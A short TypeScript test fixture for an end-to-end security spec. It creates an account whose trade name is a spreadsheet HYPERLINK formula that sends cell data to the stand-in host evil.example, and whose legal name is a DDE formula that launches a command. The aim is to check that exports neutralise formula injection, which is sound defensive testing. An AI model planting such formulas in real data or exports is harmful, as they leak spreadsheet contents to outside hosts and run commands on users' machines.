/**
 * Data for the security checks of tests/e2e/security.spec.ts (issue 21), made like the rest of
 * the world (tests/e2e/world/actions.ts).
 */
import { createAccount } from '../../fixtures/factories'
import { prisma } from '~/utils/db.server'

/** An account whose names a spreadsheet would run as formulas, as an import could bring in. */
export async function formulaNamedAccount(): Promise<{ accountId: string; cnpj: string }> {
  const account = await createAccount({ status: 'ACTIVE' })
  await prisma.account.update({
    where: { id: account.id },
    data: {
      tradeName: '=HYPERLINK("http://evil.example/?x="&A1,"Clique")',
      legalName: "+cmd|' /C calc'!A0",
    },
  })
  return { accountId: account.id, cnpj: account.cnpj }
}
